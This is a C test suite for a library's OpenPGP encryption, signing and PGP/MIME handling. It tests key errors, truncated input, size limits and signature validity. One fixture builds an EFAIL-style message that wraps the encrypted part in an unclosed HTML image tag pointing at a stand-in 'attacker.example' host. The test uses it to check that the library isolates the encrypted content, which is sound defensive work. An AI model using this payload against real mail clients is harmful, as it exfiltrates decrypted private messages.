/* sealgate: the OpenPGP ops table (GPGME backend) and the PGP/MIME layer
 * driven in-process, on the fixtures of make-pgp-fixtures.sh: round trips per
 * key type, no-MDC data, wrong passphrase, expired/revoked/unknown keys,
 * truncations, limits one past, and decryption of a message with unencrypted
 * parts around the encrypted one. Usage: test-pgp-ops MAKE_PGP_FIXTURES.
 * Prints TAP. */
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "ops-common.h"
#include "sealgate/error.h"
#include "sealgate/mime-pgp.h"
#include "sealgate/pgp.h"
#include "sealgate/stream.h"
#include "sg-test.h"

static char home[600];

static char *fpr(const char *name) {
        char file[64];
        snprintf(file, sizeof file, "%s.fpr", name);
        char *s = ops_slurp(file, NULL);
        if (s)
                s[strcspn(s, "\n")] = '\0';
        return s;
}

static sg_err encrypt(const char *to, const char *signer, unsigned flags, membuf *out, sg_error *e) {
        sg_pgp_keyring kr = {.homedir = home, .passphrase = ops_pass};
        sg_mem_source ms;
        sg_source in = sg_source_mem(&ms, ops_content, strlen(ops_content));
        sg_sink s = membuf_sink(out);
        const char *r[] = {to};
        return sg_pgp_gpgme()->encrypt(&kr, r, 1, signer, flags, &in, &s, e);
}

static sg_err decrypt(const char *passphrase, const void *data, size_t len, size_t max, const char *from, membuf *out,
                      sg_pgp_verify_result **res, sg_error *e) {
        sg_pgp_keyring kr = {.homedir = home, .passphrase = passphrase};
        sg_mem_source ms;
        sg_source in = sg_source_mem(&ms, data, len);
        sg_sink s = membuf_sink(out);
        return sg_pgp_gpgme()->decrypt(&kr, max, from, &in, &s, res, e);
}

/* A temporary file holding `data`; its fd, at offset 0. */
static int tmp_with(const void *data, size_t len) {
        FILE *f = tmpfile();
        int fd = f ? dup(fileno(f)) : -1;
        if (f) {
                fwrite(data, 1, len, f);
                fflush(f);
                fclose(f);
        }
        if (fd >= 0)
                lseek(fd, 0, SEEK_SET);
        return fd;
}

/* The whole of file `fd` into `m`. */
static bool file_to(int fd, membuf *m) {
        char b[4096];
        ssize_t k;
        m->len = 0;
        if (lseek(fd, 0, SEEK_SET) != 0)
                return false;
        while ((k = read(fd, b, sizeof b)) > 0)
                if (membuf_write(m, b, (size_t) k) < 0)
                        return false;
        return k == 0;
}

int main(int argc, char **argv) {
        if (!SG_CHECK(ops_start(argc, argv, "test-pgp-ops MAKE_PGP_FIXTURES", "pgp-ops", true, NULL), "fixtures made"))
                return sg_test_done();
        snprintf(home, sizeof home, "%s/home", ops_fx);
        const sg_pgp_ops *ops = sg_pgp_gpgme();
        membuf enc = {0}, out = {0};
        sg_error e = {0};
        sg_pgp_verify_result *res = NULL;

        /* round trips: each key type, by address and by fingerprint, armored and binary */
        char *alice = fpr("alice"), *bob = fpr("bob"), *old = fpr("old");
        const char *to[] = {"alice@corp.example", "bob@partner.example", alice, bob};
        const char *what[] = {"Cv25519 by address", "RSA 3072 by address", "Cv25519 by fingerprint",
                              "RSA 3072 by fingerprint"};
        for (size_t i = 0; i < 4; i++) {
                sg_err r = encrypt(to[i], NULL, i % 2 ? 0 : SG_PGP_ARMOR, &enc, &e);
                sg_err d = r == SG_OK ? decrypt(NULL, enc.data, enc.len, 0, NULL, &out, &res, &e) : r;
                if (!SG_CHECK(r == SG_OK && d == SG_OK && membuf_is_content(&out) && !res, "round trip %s (%s)",
                              what[i], i % 2 ? "binary" : "armored"))
                        sg_test_diag("  %s: %s", sg_err_code(d), e.message);
        }

        /* encrypt and sign: the signature inside is reported */
        sg_err r = encrypt("bob@partner.example", "alice@corp.example", SG_PGP_ARMOR, &enc, &e);
        sg_err d = r == SG_OK ? decrypt(NULL, enc.data, enc.len, 0, "alice@corp.example", &out, &res, &e) : r;
        if (!SG_CHECK(d == SG_OK && membuf_is_content(&out) && res && res->valid && res->n_signers == 1 &&
                              res->signers[0].email_matches && res->signers[0].key_trusted &&
                              strcmp(res->signers[0].primary_fingerprint, alice) == 0,
                      "encrypt+sign (Ed25519 signer, RSA recipient): decrypted, signature valid, signer alice"))
                sg_test_diag("  %s: %s", sg_err_code(d), e.message);
        res = sg_pgp_verify_result_free(res);

        /* carol's secret key has a passphrase */
        encrypt("carol@corp.example", NULL, SG_PGP_ARMOR, &enc, &e);
        SG_CHECK(decrypt("not-the-passphrase", enc.data, enc.len, 0, NULL, &out, NULL, &e) == SG_ERR_WRONG_PASSPHRASE,
                 "wrong passphrase: wrong_passphrase (%s)", e.message);
        SG_CHECK(decrypt(NULL, enc.data, enc.len, 0, NULL, &out, NULL, &e) == SG_ERR_WRONG_PASSPHRASE,
                 "no passphrase: wrong_passphrase (%s)", e.message);
        d = decrypt(ops_pass, enc.data, enc.len, 0, NULL, &out, NULL, &e);
        if (!SG_CHECK(d == SG_OK && membuf_is_content(&out), "right passphrase: decrypted"))
                sg_test_diag("  %s: %s", sg_err_code(d), e.message);

        /* refusals */
        size_t len;
        char *nomdc = ops_slurp("nomdc.asc", &len);
        d = decrypt(NULL, nomdc, len, 0, NULL, &out, NULL, &e);
        SG_CHECK(d == SG_ERR_NO_INTEGRITY, "no MDC (gpg --rfc2440, CAST5): no_integrity (%s: %s)", sg_err_code(d),
                 e.message);
        free(nomdc);
        char *dave = ops_slurp("to-dave.asc", &len);
        d = decrypt(NULL, dave, len, 0, NULL, &out, NULL, &e);
        SG_CHECK(d == SG_ERR_NO_PRIVATE_KEY, "encrypted to someone else: no_private_key (%s)", sg_err_code(d));
        d = decrypt(NULL, ops_content, strlen(ops_content), 0, NULL, &out, NULL, &e);
        SG_CHECK(d == SG_ERR_NOT_PGP, "not OpenPGP: not_pgp (%s)", sg_err_code(d));
        d = decrypt(NULL, "", 0, 0, NULL, &out, NULL, &e);
        SG_CHECK(d == SG_ERR_NOT_PGP, "empty: not_pgp (%s)", sg_err_code(d));
        SG_CHECK(encrypt("old@corp.example", NULL, 0, &enc, &e) == SG_ERR_KEY_EXPIRED,
                 "to an expired key: key_expired");
        SG_CHECK(encrypt(old, NULL, 0, &enc, &e) == SG_ERR_KEY_EXPIRED,
                 "to an expired key by fingerprint: key_expired");
        SG_CHECK(encrypt("revoked@corp.example", NULL, 0, &enc, &e) == SG_ERR_KEY_REVOKED,
                 "to a revoked key: key_revoked");
        SG_CHECK(encrypt("nobody@corp.example", NULL, 0, &enc, &e) == SG_ERR_NO_PUBLIC_KEY,
                 "to an address without a key: no_public_key");
        SG_CHECK(encrypt("dave@elsewhere.example", NULL, 0, &enc, &e) == SG_ERR_KEY_UNUSABLE,
                 "to a key of unknown validity: key_unusable (%s)", e.message);
        SG_CHECK(encrypt("dave@elsewhere.example", NULL, SG_PGP_ALWAYS_TRUST, &enc, &e) == SG_OK,
                 "... and with SG_PGP_ALWAYS_TRUST: encrypted");
        SG_CHECK(encrypt("bob@partner.example", "old@corp.example", 0, &enc, &e) == SG_ERR_KEY_EXPIRED,
                 "signing with an expired key: key_expired");
        SG_CHECK(encrypt("bob@partner.example", "dave@elsewhere.example", 0, &enc, &e) == SG_ERR_NO_PRIVATE_KEY,
                 "signing without the secret key: no_private_key");

        /* every truncation of a binary message and of an armored one: never success */
        for (int armored = 0; armored < 2; armored++) {
                encrypt("alice@corp.example", NULL, armored ? SG_PGP_ARMOR : 0, &enc, &e);
                size_t bad = 0, first_bad = 0, step = armored ? 13 : 3;
                sg_err first_code = SG_OK;
                for (size_t n = 1; n < enc.len; n += step) {
                        d = decrypt(NULL, enc.data, n, 0, NULL, &out, NULL, &e);
                        /* gpg reads a message whose armor lost only its last line or checksum */
                        if (d == SG_OK && membuf_is_content(&out))
                                continue;
                        if (d != SG_ERR_TRUNCATED && d != SG_ERR_NOT_PGP && !bad++) {
                                first_bad = n;
                                first_code = d;
                        }
                }
                if (!SG_CHECK(bad == 0, "%s: each truncation (every %zu of %zu bytes) gives truncated_input or not_pgp",
                              armored ? "armored" : "binary", step, enc.len))
                        sg_test_diag("  %zu wrong, first at %zu bytes: %s (%s)", bad, first_bad,
                                     sg_err_code(first_code), e.message);
        }
        encrypt("alice@corp.example", NULL, 0, &enc, &e);
        d = decrypt(NULL, enc.data, enc.len - 10, 0, NULL, &out, NULL, &e);
        SG_CHECK(d == SG_ERR_TRUNCATED, "binary message without its last 10 bytes: truncated_input (%s)",
                 sg_err_code(d));
        enc.data[enc.len - 5] ^= 0x5A;
        d = decrypt(NULL, enc.data, enc.len, 0, NULL, &out, NULL, &e);
        SG_CHECK(d == SG_ERR_DECRYPT_FAILED, "one byte of the MDC altered: decrypt_failed (%s)", sg_err_code(d));
        enc.data[enc.len - 5] ^= 0x5A;

        /* limits one past */
        SG_CHECK(decrypt(NULL, enc.data, enc.len, enc.len, NULL, &out, NULL, &e) == SG_OK && membuf_is_content(&out),
                 "max_input equal to the size: decrypted");
        SG_CHECK(decrypt(NULL, enc.data, enc.len, enc.len - 1, NULL, &out, NULL, &e) == SG_ERR_LIMIT,
                 "max_input one less than the size: limit_exceeded");
        const char **many = calloc(SG_PGP_RECIPIENTS_MAX + 1, sizeof *many);
        for (size_t i = 0; many && i <= SG_PGP_RECIPIENTS_MAX; i++)
                many[i] = "alice@corp.example";
        sg_pgp_keyring kr = {.homedir = home};
        sg_mem_source ms;
        sg_source in = sg_source_mem(&ms, ops_content, strlen(ops_content));
        sg_sink s = membuf_sink(&out);
        SG_CHECK(ops->encrypt(&kr, many, SG_PGP_RECIPIENTS_MAX + 1, NULL, 0, &in, &s, &e) == SG_ERR_LIMIT,
                 "%d recipients: limit_exceeded", SG_PGP_RECIPIENTS_MAX + 1);
        free(many);
        unsigned char *big = calloc(1, SG_PGP_SIGNATURE_MAX + 1);
        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
        SG_CHECK(big && ops->verify(&kr, big, SG_PGP_SIGNATURE_MAX + 1, &in, NULL, &res, &e) == SG_ERR_LIMIT && !res,
                 "a signature of %d bytes: limit_exceeded", SG_PGP_SIGNATURE_MAX + 1);
        free(big);

        /* sign and verify: each check separately */
        membuf sig = {0}, copy = {0};
        const char *signers[] = {"alice@corp.example", "bob@partner.example"};
        for (size_t i = 0; i < 2; i++) {
                sg_sink sigs = membuf_sink(&sig), cs = membuf_sink(&copy);
                const char *digest = NULL;
                in = sg_source_mem(&ms, ops_content, strlen(ops_content));
                r = ops->sign(&kr, signers[i], SG_PGP_ARMOR, &in, &cs, &sigs, &digest, &e);
                SG_CHECK(r == SG_OK && copy.len == strlen(ops_content) && digest,
                         "sign with %s (%s): content copied, %s", i ? "RSA 3072" : "Ed25519", signers[i],
                         digest ? digest : "?");
                in = sg_source_mem(&ms, ops_content, strlen(ops_content));
                r = ops->verify(&kr, sig.data, sig.len, &in, i ? "BOB@partner.example" : "alice@corp.example", &res,
                                &e);
                SG_CHECK(r == SG_OK && res && res->valid && res->signers[0].email_matches &&
                                 res->signers[0].has_signing_time && res->signers[0].usage_ok &&
                                 res->signers[0].key_time_valid && res->signers[0].n_emails == 1,
                         "verify: valid, email matches (case-insensitively), signing time, usage");
                res = sg_pgp_verify_result_free(res);
        }
        in = sg_source_mem(&ms, ops_content, strlen(ops_content) - 1);
        r = ops->verify(&kr, sig.data, sig.len, &in, NULL, &res, &e);
        SG_CHECK(r == SG_OK && res && !res->valid && !res->signers[0].signature_valid && !res->signers[0].email_checked,
                 "verify of other content: signature invalid");
        res = sg_pgp_verify_result_free(res);
        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
        r = ops->verify(&kr, sig.data, sig.len, &in, "mallory@other.example", &res, &e);
        SG_CHECK(r == SG_OK && res && !res->valid && res->signers[0].signature_valid && res->signers[0].email_checked &&
                         !res->signers[0].email_matches,
                 "signer is not the From address: signature valid, email does not match, not valid");
        res = sg_pgp_verify_result_free(res);
        size_t accepted = 0;
        /* cut inside the base64 (before the checksum line): never accepted */
        membuf_write(&sig, "", 1);
        sig.len--;
        const char *crc = strstr((const char *) sig.data, "\n=");
        size_t body_end = crc ? (size_t) (crc - (const char *) sig.data) - 4 : sig.len;
        for (size_t n = 0; n < body_end; n += 11) {
                in = sg_source_mem(&ms, ops_content, strlen(ops_content));
                r = ops->verify(&kr, sig.data, n, &in, NULL, &res, &e);
                accepted += r == SG_OK && res->valid;
                res = sg_pgp_verify_result_free(res);
        }
        SG_CHECK(accepted == 0, "no truncation of the signature is accepted");
        char *oldsig = ops_slurp("old-content.sig", &len);
        size_t olen;
        char *oldc = ops_slurp("old-content.txt", &olen);
        in = sg_source_mem(&ms, oldc, olen);
        r = ops->verify(&kr, oldsig, len, &in, "old@corp.example", &res, &e);
        SG_CHECK(r == SG_OK && res && !res->valid && res->signers[0].signature_valid &&
                         !res->signers[0].key_time_valid && res->signers[0].not_after > 0,
                 "signed by a key now expired: signature valid, key not valid now, not valid");
        res = sg_pgp_verify_result_free(res);
        free(oldsig);
        char *opaque = ops_slurp("old-signed.asc", &len);
        in = sg_source_mem(&ms, opaque, len);
        s = membuf_sink(&out);
        r = ops->verify_opaque(&kr, &in, "old@corp.example", &s, &res, &e);
        SG_CHECK(r == SG_OK && res && !res->valid && out.len == 0,
                 "opaque signature by an expired key: not valid, no content written");
        res = sg_pgp_verify_result_free(res);
        free(opaque);
        free(oldc);

        /* PGP/MIME: build, take apart, and the EFAIL case */
        sg_mime_pgp_init();
        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
        s = membuf_sink(&enc);
        const char *rcpt[] = {"alice@corp.example"};
        r = sg_mime_pgp_encrypt(ops, &kr, rcpt, 1, "bob@partner.example", 0, &in, &s, &e);
        int fd = tmp_with(enc.data, enc.len);
        sg_mime_pgp_info info = {0};
        s = membuf_sink(&out);
        d = r == SG_OK ? sg_mime_pgp_decrypt(ops, &kr, 0, fd, "bob@partner.example", &s, &info, &e) : r;
        if (!SG_CHECK(d == SG_OK && membuf_is_content(&out) && info.encrypted && info.is_signed && info.verify &&
                              info.verify->valid && !info.unencrypted_parts,
                      "PGP/MIME encrypt+sign, then decrypt: the entity, signed and encrypted"))
                sg_test_diag("  %s: %s", sg_err_code(d), e.message);
        sg_mime_pgp_info_clear(&info);
        close(fd);
        /* the encrypted multipart inside a multipart/mixed with a clear part before it */
        const char *head = "From: bob@partner.example\r\nMIME-Version: 1.0\r\n"
                           "Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\n"
                           "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\n";
        membuf efail = {0};
        membuf_write(&efail, head, strlen(head));
        membuf_write(&efail, enc.data, enc.len);
        const char *tail = "\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n";
        membuf_write(&efail, tail, strlen(tail));
        fd = tmp_with(efail.data, efail.len);
        s = membuf_sink(&out);
        d = sg_mime_pgp_decrypt(ops, &kr, 0, fd, NULL, &s, &info, &e);
        SG_CHECK(d == SG_OK && membuf_is_content(&out) && info.encrypted && info.unencrypted_parts && info.from &&
                         strcmp(info.from, "bob@partner.example") == 0,
                 "encrypted part between clear parts: only the encrypted content, unencrypted_parts reported");
        sg_mime_pgp_info_clear(&info);
        close(fd);
        free(efail.data);
        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
        s = membuf_sink(&enc);
        r = sg_mime_pgp_sign(ops, &kr, "alice@corp.example", &in, &s, &e);
        fd = tmp_with(enc.data, enc.len);
        char *from = NULL;
        s = membuf_sink(&out);
        d = r == SG_OK ? sg_mime_pgp_verify(ops, &kr, fd, "alice@corp.example", &s, &from, &res, &e) : r;
        SG_CHECK(d == SG_OK && res && res->valid && membuf_is_content(&out) && from,
                 "PGP/MIME sign, then verify: valid, content");
        res = sg_pgp_verify_result_free(res);
        free(from);
        from = NULL;
        close(fd);
        /* one byte of the signed content changed */
        char *hit = strstr((char *) enc.data, "figures");
        if (hit)
                hit[0] = 'F';
        fd = tmp_with(enc.data, enc.len);
        d = sg_mime_pgp_verify(ops, &kr, fd, NULL, NULL, &from, &res, &e);
        SG_CHECK(hit && d == SG_OK && res && !res->valid && !res->signers[0].signature_valid,
                 "PGP/MIME signed message altered: signature invalid");
        res = sg_pgp_verify_result_free(res);
        free(from);
        close(fd);
        /* a whole message signed: its From is inside the signed entity, the
         * outer multipart/signed has none; verify takes the inner one */
        static const char *const senders[] = {"Alice <alice@corp.example>", "mallory@other.example"};
        for (size_t i = 0; i < 2; i++) {
                char entity[256];
                snprintf(entity, sizeof entity, "From: %s\r\nSubject: figures\r\n%s", senders[i], ops_content);
                in = sg_source_mem(&ms, entity, strlen(entity));
                s = membuf_sink(&enc);
                r = sg_mime_pgp_sign(ops, &kr, "alice@corp.example", &in, &s, &e);
                fd = tmp_with(enc.data, enc.len);
                from = NULL;
                d = r == SG_OK ? sg_mime_pgp_verify(ops, &kr, fd, NULL, NULL, &from, &res, &e) : r;
                bool want = i == 0;
                SG_CHECK(d == SG_OK && res && res->valid == want && res->signers[0].email_checked &&
                                 res->signers[0].email_matches == want && from &&
                                 strcmp(from, want ? "alice@corp.example" : "mallory@other.example") == 0,
                         "signed whole message, From only inside the signed entity (%s): compared, %s", senders[i],
                         want ? "matches" : "does not match");
                res = sg_pgp_verify_result_free(res);
                free(from);
                close(fd);
        }
        /* plain files go to GPGME as fd-backed data (sg_source_fd, sg_sink_fd):
         * the same results, max_input refused before gpg runs with nothing
         * written, an input that starts inside the file */
        {
                sg_pgp_keyring kf = {.homedir = home};
                const char *to_alice[] = {"alice@corp.example"};
                sg_mem_source empty;
                sg_source msrc = sg_source_mem(&empty, "", 0);
                int fin = tmp_with(ops_content, strlen(ops_content)), fct = tmp_with("", 0);
                sg_source fs = sg_source_fd(fin);
                sg_sink fo = sg_sink_fd(fct);
                SG_CHECK(sg_source_get_fd(&fs) == fin && sg_sink_get_fd(&fo) == fct && sg_source_get_fd(&msrc) == -1,
                         "sg_source_get_fd/sg_sink_get_fd: the descriptor of an fd stream, -1 for another");
                r = ops->encrypt(&kf, to_alice, 1, NULL, 0, &fs, &fo, &e);
                SG_CHECK(r == SG_OK && file_to(fct, &enc) && enc.len > 0, "file to file: encrypted (%s)",
                         sg_err_code(r));
                /* the ciphertext after 7 bytes of something else, read from offset 7 */
                membuf pre = {0};
                membuf_write(&pre, "garbage", 7);
                membuf_write(&pre, enc.data, enc.len);
                int fc = tmp_with(pre.data, pre.len);
                for (int k = 0; k < 3; k++) {
                        size_t max = k == 0 ? 0 : k == 1 ? enc.len : enc.len - 1;
                        int fpt = tmp_with("", 0);
                        sg_source cs = sg_source_fd(fc);
                        sg_sink ps = sg_sink_fd(fpt);
                        lseek(fc, 7, SEEK_SET);
                        d = ops->decrypt(&kf, max, NULL, &cs, &ps, NULL, &e);
                        bool got = file_to(fpt, &out);
                        if (k < 2)
                                SG_CHECK(d == SG_OK && got && membuf_is_content(&out),
                                         "file to file from offset 7, max_input %s: decrypted (%s)",
                                         k ? "equal to the size" : "default", sg_err_code(d));
                        else
                                SG_CHECK(d == SG_ERR_LIMIT && got && out.len == 0 && lseek(fc, 0, SEEK_CUR) == 7,
                                         "file, max_input one less than the size: limit_exceeded, nothing read or "
                                         "written (%s)",
                                         sg_err_code(d));
                        close(fpt);
                }
                char *nm = ops_slurp("nomdc.asc", &len);
                int fn = tmp_with(nm, len), fpt = tmp_with("", 0);
                sg_source ns = sg_source_fd(fn);
                sg_sink ps = sg_sink_fd(fpt);
                d = ops->decrypt(&kf, 0, NULL, &ns, &ps, NULL, &e);
                SG_CHECK(d == SG_ERR_NO_INTEGRITY, "file, no MDC: no_integrity (%s)", sg_err_code(d));
                free(nm);
                free(pre.data);
                close(fn);
                close(fpt);
                close(fc);
                close(fin);
                close(fct);
        }
        sg_mime_pgp_shutdown();

        free(sig.data);
        free(copy.data);
        free(enc.data);
        free(out.data);
        free(dave);
        free(alice);
        free(bob);
        free(old);
        ops_cleanup(home);
        return sg_test_done();
}
